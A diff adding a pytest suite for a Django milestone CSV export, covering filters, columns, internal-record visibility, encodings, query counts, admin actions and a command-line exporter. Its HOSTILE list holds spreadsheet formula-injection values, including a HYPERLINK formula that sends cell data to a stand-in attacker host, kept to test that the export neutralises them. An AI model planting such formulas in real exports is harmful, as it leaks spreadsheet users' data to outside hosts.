@@ -1,0 +1,288 @@
+"""Milestone CSV reports: what is on screen, safe in a spreadsheet, in a fixed number of queries."""
+
+import csv
+import datetime
+import io
+
+import pytest
+from django.core.management import CommandError, call_command
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import timezone
+
+from agreements.exports import spreadsheet_safe
+from agreements.models import CooperationArea, Milestone
+from tests.factories import AgreementFactory, MilestoneFactory, PartyFactory
+
+pytestmark = pytest.mark.django_db
+EXPORT = reverse("agreements:milestone_export")
+LIST = reverse("agreements:milestone_list")
+TODAY = timezone.localdate()
+HEADER = [
+    "Agreement reference", "Agreement title", "Milestone", "Cooperation area",
+    "Responsible agency", "Due date", "Status", "Date met", "Overdue", "Days overdue",
+    "Last reviewed", "Link",
+]  # fmt: skip
+
+
+def download(client, url, params=None):
+    response = client.get(url, params or {})
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    body = b"".join(response.streaming_content)
+    return response, body
+
+
+def parse(body: bytes, encoding="utf-8"):
+    return list(csv.reader(io.StringIO(body.decode(encoding), newline="")))
+
+
+@pytest.fixture
+def report(db):
+    """A mixed set of milestones over two agreements (one of them internal)."""
+    days = datetime.timedelta
+    govtech = CooperationArea.objects.get(slug="govtech")
+    party = PartyFactory(agreement=AgreementFactory(reference="AGR-2025-0001", slug="bridge"))
+    other = AgreementFactory(reference="AGR-2024-0007")
+    internal = AgreementFactory(reference="AGR-2025-0099", visibility="internal")
+    rows = {
+        "late": MilestoneFactory(
+            agreement=party.agreement,
+            title="Testing platform study",
+            area=govtech,
+            responsible_agency=party.agency,
+            due_date=TODAY - days(3),
+            status="in_progress",
+        ),
+        "soon": MilestoneFactory(agreement=other, due_date=TODAY + days(12)),
+        "met": MilestoneFactory(
+            agreement=other, due_date=TODAY - days(40), status="met", date_met=TODAY - days(41)
+        ),
+        "undated": MilestoneFactory(agreement=party.agreement, due_date=None),
+        "secret": MilestoneFactory(agreement=internal, title="Internal only step"),
+    }
+    return rows
+
+
+def page_titles(client, params):
+    """Every row the milestone list shows for these filters, over all its pages."""
+    response = client.get(LIST, params)
+    return [m.title for m in response.context["paginator"].object_list]
+
+
+@pytest.mark.parametrize(
+    "params",
+    [{}, {"overdue": "on"}, {"area": "govtech"}, {"sort": "-due"}, {"status": "met"},
+     {"due_within": "30"}, {"agreement": "agr-2024-0007", "sort": "status"}],
+)  # fmt: skip
+def test_csv_has_the_same_rows_in_the_same_order_as_the_page(client, report, params):
+    _, body = download(client, EXPORT, params)
+    rows = parse(body)
+    assert rows[0] == HEADER
+    assert [row[2] for row in rows[1:]] == page_titles(client, params)
+
+
+def test_every_column_matches_the_database(client, report):
+    late = Milestone.objects.get(pk=report["late"].pk)
+    _, body = download(client, EXPORT, {"area": "govtech"})
+    (row,) = parse(body)[1:]
+    assert row == [
+        "AGR-2025-0001",
+        late.agreement.title,
+        "Testing platform study",
+        "GovTech",
+        late.responsible_agency.name,
+        (TODAY - datetime.timedelta(days=3)).isoformat(),
+        "In progress",
+        "",
+        "yes",
+        "3",
+        timezone.localtime(late.last_reviewed).isoformat(timespec="seconds"),
+        "http://testserver/agreements/bridge/",
+    ]
+
+
+def test_days_remaining_are_negative_and_met_rows_carry_their_date(client, report):
+    _, body = download(client, EXPORT)
+    by_title = {row[2]: row for row in parse(body)[1:]}
+    soon = by_title[report["soon"].title]
+    assert (soon[8], soon[9]) == ("no", "-12")
+    met = by_title[report["met"].title]
+    assert (met[6], met[7], met[8]) == (
+        "Met",
+        (TODAY - datetime.timedelta(days=41)).isoformat(),
+        "no",
+    )
+    undated = by_title[report["undated"].title]
+    assert (undated[5], undated[9]) == ("", "")
+
+
+def test_filename_says_what_and_when(client, report):
+    response, _ = download(client, EXPORT)
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="milestones-{TODAY.isoformat()}.csv"'
+    )
+    response, _ = download(client, reverse("agreements:agreement_milestones_csv", args=["bridge"]))
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="AGR-2025-0001-milestones-{TODAY.isoformat()}.csv"'
+    )
+
+
+def test_agreement_export_has_only_its_milestones(client, report):
+    _, body = download(client, reverse("agreements:agreement_milestones_csv", args=["bridge"]))
+    assert [row[2] for row in parse(body)[1:]] == [report["late"].title, report["undated"].title]
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    "\tleading tab",
+    "\rcarriage return",
+    "\nline feed",
+]
+
+
+@pytest.mark.parametrize("title", HOSTILE)
+def test_formula_cells_are_neutralised_and_round_trip(client, db, title):
+    agreement = AgreementFactory(title=title, reference=title[:30])
+    MilestoneFactory(agreement=agreement, title=title)
+    _, body = download(client, EXPORT)
+    (row,) = parse(body)[1:]
+    assert row[0] == "'" + title[:30]
+    assert row[1] == "'" + title
+    assert row[2] == "'" + title
+
+
+def test_quotes_commas_and_newlines_inside_cells_round_trip(client, db):
+    title = 'Pilot "Digital Bridge", phase 1\nthen phase 2; cost 1,000'
+    MilestoneFactory(title=title)
+    _, body = download(client, EXPORT)
+    assert parse(body)[1][2] == title
+
+
+def test_numbers_stay_numbers():
+    assert spreadsheet_safe(-3) == -3
+    assert spreadsheet_safe("-3") == "'-3"
+
+
+@pytest.mark.parametrize(("variant", "encoding"), [(None, "utf-8"), ("excel", "utf-8-sig")])
+def test_non_latin_text_round_trips_in_both_variants(client, db, variant, encoding):
+    MilestoneFactory(title="Подписание с Miguel López-Valverde Argüeso · Қазақстан")
+    _, body = download(client, EXPORT, {"variant": variant} if variant else {})
+    assert body.startswith(b"\xef\xbb\xbf") is (variant == "excel")
+    rows = parse(body, encoding)
+    assert rows[0][0] == "Agreement reference"
+    assert rows[1][2] == "Подписание с Miguel López-Valverde Argüeso · Қазақстан"
+
+
+def test_anonymous_never_receives_internal_milestones(client, report):
+    for params in [{}, {"agreement": "AGR-2025-0099"}, {"status": "scheduled"}]:
+        _, body = download(client, EXPORT, params)
+        assert b"Internal only step" not in body
+        assert b"AGR-2025-0099" not in body
+    internal = report["secret"].agreement
+    url = reverse("agreements:agreement_milestones_csv", args=[internal.slug])
+    assert client.get(url).status_code == 404
+
+
+def test_staff_export_includes_internal_milestones(client, viewer, report):
+    client.force_login(viewer)
+    _, body = download(client, EXPORT)
+    assert b"Internal only step" in body
+
+
+def test_invalid_filters_give_the_page_with_its_message_and_no_file(client, report):
+    response = client.get(EXPORT, {"due_from": "2026-02-30"})
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/html")
+    assert "Enter a valid date." in response.content.decode()
+
+
+def test_download_links_carry_the_filters_but_not_the_page(client, report):
+    content = client.get(LIST, {"area": "govtech", "page": "1"}).content.decode()
+    assert f'href="{EXPORT}?area=govtech"' in content
+    assert f'href="{EXPORT}?area=govtech&amp;variant=excel"' in content
+
+
+@pytest.mark.parametrize(
+    "url", [EXPORT, reverse("agreements:agreement_milestones_csv", args=["anchor"])]
+)
+def test_query_count_is_fixed_for_3_and_300_rows(client, db, url):
+    agreement = AgreementFactory(slug="anchor")
+
+    def queries():
+        with CaptureQueriesContext(connection) as ctx:
+            _, body = download(client, url, {"sort": "-due"} if url == EXPORT else {})
+        return len(ctx.captured_queries), len(parse(body)) - 1
+
+    MilestoneFactory.create_batch(3, agreement=agreement)
+    few, rows = queries()
+    assert rows == 3
+    MilestoneFactory.create_batch(297, agreement=agreement)
+    many, rows = queries()
+    assert rows == 300
+    assert few == many <= 2
+
+
+class TestAdminActions:
+    def test_export_selected_milestones(self, client, viewer, report):
+        client.force_login(viewer)
+        chosen = [report["late"].pk, report["secret"].pk]
+        response = client.post(
+            reverse("admin:agreements_milestone_changelist"),
+            {"action": "export_selected_csv", "_selected_action": chosen},
+        )
+        rows = parse(b"".join(response.streaming_content))
+        assert rows[0] == HEADER
+        assert sorted(row[2] for row in rows[1:]) == [
+            "Internal only step",
+            "Testing platform study",
+        ]
+
+    def test_export_milestones_of_selected_agreements(self, client, viewer, report):
+        client.force_login(viewer)
+        response = client.post(
+            reverse("admin:agreements_agreement_changelist"),
+            {
+                "action": "export_milestones_csv",
+                "_selected_action": [report["late"].agreement.pk, report["soon"].agreement.pk],
+            },
+        )
+        rows = parse(b"".join(response.streaming_content))
+        assert [row[0] for row in rows[1:]] == ["AGR-2024-0007"] * 2 + ["AGR-2025-0001"] * 2
+
+
+class TestCommand:
+    def test_writes_the_same_csv_as_the_page(self, client, report, tmp_path):
+        target = tmp_path / "overdue.csv"
+        call_command("export_milestones", "--overdue", "-o", str(target), stderr=io.StringIO())
+        _, body = download(client, EXPORT, {"overdue": "on"})
+        from_page = [row[:11] for row in parse(body)]
+        from_command = [row[:11] for row in parse(target.read_bytes())]
+        assert from_command == from_page
+        assert len(from_command) == 2
+
+    def test_public_only_unless_asked(self, report):
+        out = io.StringIO()
+        call_command("export_milestones", stdout=out)
+        assert "Internal only step" not in out.getvalue()
+        out = io.StringIO()
+        call_command(
+            "export_milestones",
+            "--include-internal",
+            "--area",
+            "govtech",
+            "--base-url",
+            "https://accords.example",
+            stdout=out,
+        )
+        rows = list(csv.reader(io.StringIO(out.getvalue())))
+        assert [row[2] for row in rows[1:]] == ["Testing platform study"]
+        assert rows[1][11] == "https://accords.example/agreements/bridge/"
+
+    def test_invalid_filters_are_an_error(self, db):
+        with pytest.raises(CommandError, match="--due-within: Enter a number"):
+            call_command("export_milestones", "--due-within", "soon")
